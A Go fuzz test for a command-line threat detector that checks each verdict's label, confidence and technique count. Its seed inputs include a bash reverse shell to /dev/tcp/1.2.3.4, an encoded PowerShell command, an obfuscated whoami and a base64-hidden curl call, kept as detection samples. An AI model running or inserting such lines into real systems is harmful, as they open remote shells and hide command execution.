package detect

import (
	"math"
	"testing"
)

// FuzzScan feeds arbitrary lines to the full detector: it must never
// panic, and every verdict must be well formed.
func FuzzScan(f *testing.F) {
	for _, s := range []string{
		"ls -la", "powershell -enc dwBoAG8AYQBtAGkA", "bash -i >& /dev/tcp/1.2.3.4/4 0>&1",
		"c^m^d /c \"w^h^o^a^m^i\"", "$(echo Y3VybCB4|base64 -d)", "\x00\xff\xfe", "'\"`$(",
	} {
		f.Add(s)
	}
	d := newShipped(f)
	f.Fuzz(func(t *testing.T, line string) {
		v, err := d.Scan(line)
		if err != nil {
			return
		}
		if v.Label != Labels[Benign] && v.Label != Labels[Suspicious] && v.Label != Labels[Malicious] {
			t.Fatalf("label %q", v.Label)
		}
		if math.IsNaN(v.Confidence) || v.Confidence < 0 || v.Confidence > 1 {
			t.Fatalf("confidence %v", v.Confidence)
		}
		if len(v.Techniques) > MaxTechniques {
			t.Fatalf("%d techniques", len(v.Techniques))
		}
	})
}
